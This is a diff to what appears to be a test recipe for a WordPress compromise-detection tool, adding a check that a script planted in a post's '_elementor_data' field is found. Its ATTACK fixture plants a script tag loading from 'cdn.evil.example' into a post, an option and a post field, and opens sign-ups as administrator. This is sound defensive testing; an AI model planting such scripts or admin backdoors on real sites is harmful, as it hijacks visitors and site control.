@@ -11,7 +11,7 @@
  * index.php, PHP in uploads, a .user.ini, a must-use plugin hiding an extra
  * administrator, a link, wp-cli.yml files, names with escape codes, a role
  * named *, an editor's Application Password, sign-ups opened as administrator, a role EDITOR and its account,
- * a script in a post and an option), then on the same site clean:
+ * a script in a post, a post field and an option), then on the same site clean:
  * each check must name exactly what was planted, no listing may print a raw
  * control character, and nothing is named on the clean site.
  * The compromised run comes first, so a breaking edit fails there and its
@@ -54,6 +54,8 @@ const UPPER_ROLE_USER = 'wpboss';
 /** The script planted in a post and in an option (review r50 HIGH 1): what step 3's searches of the database must find. */
 const INJECTED = '<script src=https://cdn.evil.example/x.js></script>';
 const INJECTED_OPTION = 'wpc_footer_code';
+/** A post field where page builders keep a page's content (review r51 MEDIUM 4): the script planted there too. */
+const INJECTED_META = '_elementor_data';
 /** Settings that let anyone sign up as an administrator (review r50 HIGH 1), and their values as installed. */
 const OPEN_SIGNUP = {
   broken: {users_can_register: '1', default_role: 'administrator'},
@@ -105,7 +107,7 @@ const PLANTED = {
  * PHP in an .ico in uploads, and the two files core runs as PHP that the core check skips (.maintenance, a
  * translation's .l10n.php), files named with escape codes where each listing of step 3 prints names, a role named
  * `*` holding manage_options, an Application Password of an editor, anyone's sign-up made an administrator, a role
- * EDITOR (not editor) holding manage_options and its account, and a script in a post and in an option.
+ * EDITOR (not editor) holding manage_options and its account, and a script in a post, a post field and an option.
  */
 const ATTACK = `set -e
 cd ${SITE.root}
@@ -124,6 +126,7 @@ wp --path=${SITE.root} --skip-plugins --skip-themes user create ${UPPER_ROLE_USE
 wp --path=${SITE.root} --skip-plugins --skip-themes option update users_can_register ${OPEN_SIGNUP.broken.users_can_register} >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option update default_role ${OPEN_SIGNUP.broken.default_role} >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_OPTION} '${INJECTED}' >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes post meta add 1 ${INJECTED_META} '${INJECTED}' >/dev/null
 # Straight into the table: wp post create would pass it through kses, as WP-CLI runs as no user
 wp --path=${SITE.root} db query "UPDATE wp_posts SET post_content = CONCAT(post_content, '${INJECTED}') WHERE ID = 1"
 mkdir -p wp-content/mu-plugins wp-content/uploads/2026/11
@@ -442,10 +445,13 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       () => `the checks that load WordPress did not show users_can_register 1 and default_role administrator (and siteurl):\n${loaded}`,
     );
     ctx.expect(
-      new RegExp(`^1\\tpost\\tpublish\\tHello world!$`, 'm').test(loaded) && new RegExp(`^\\d+\\t${INJECTED_OPTION}$`, 'm').test(loaded),
+      new RegExp(`^1\\tpost\\tpublish\\tHello world!$`, 'm').test(loaded) &&
+        new RegExp(`^1\\t${INJECTED_META}$`, 'm').test(loaded) &&
+        new RegExp(`^\\d+\\t${INJECTED_OPTION}$`, 'm').test(loaded),
       LOADING_CHECKS,
-      `the searches for injected code find the script in post 1 and in the option ${INJECTED_OPTION}`,
-      () => `the checks that load WordPress did not find the script injected into post 1 and ${INJECTED_OPTION}:\n${loaded}`,
+      `the searches for injected code find the script in post 1, its field ${INJECTED_META} and the option ${INJECTED_OPTION}`,
+      () =>
+        `the checks that load WordPress did not find the script injected into post 1, ${INJECTED_META} and ${INJECTED_OPTION}:\n${loaded}`,
     );
     ctx.expect(
       sorted(rolesListed(loaded)) === sorted(['administrator', WIDENED_ROLE, GLOB_ROLE, UPPER_ROLE]),
@@ -504,7 +510,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       !loadedClean.includes(APP_PASSWORD_USER) &&
       !loadedClean.includes(UPPER_ROLE_USER) &&
       showsSignup(loadedClean, OPEN_SIGNUP.clean) &&
-      !/\tpost_title$|\toption_name$/m.test(loadedClean) &&
+      !/\tpost_title$|\tmeta_key$|\toption_name$/m.test(loadedClean) &&
       sorted(rolesListed(loadedClean)) === 'administrator' &&
       /^Success: Verified 1 of 1 plugins\.$/m.test(loadedClean),
     LOADING_CHECKS,
@@ -613,9 +619,9 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /the roles loop named .*, not administrator, author, \* and EDITOR/,
     },
     {
-      what: 'match role keys in any case in the database query (REGEXP without BINARY, as before review r50)',
+      what: "match role keys in any case in the database query (without (?-i), under WordPress's _ci collation)",
       ref: LOADING_CHECKS,
-      edit: replace(' NOT REGEXP BINARY ', ' NOT REGEXP '),
+      edit: replace(" NOT REGEXP '(?-i)^", " NOT REGEXP '^"),
       expect: /did not show wpboss/,
     },
     {
@@ -637,10 +643,16 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /did not find the script injected into post 1/,
     },
     {
+      what: "drop the search of posts' fields for injected code",
+      ref: LOADING_CHECKS,
+      edit: replace(/^wp --path="\$SITE" db query "SELECT post_id, meta_key FROM wp_postmeta\n.*\n/m, ''),
+      expect: /did not find the script injected into post 1, _elementor_data/,
+    },
+    {
       what: 'drop the search of options for injected code',
       ref: LOADING_CHECKS,
       edit: replace(/^wp --path="\$SITE" db query "SELECT option_id, option_name FROM wp_options\n.*\n/m, ''),
-      expect: /did not find the script injected into post 1 and wpc_footer_code/,
+      expect: /did not find the script injected into post 1, _elementor_data and wpc_footer_code/,
     },
     {
       what: "drop the query of every account's Application Passwords",
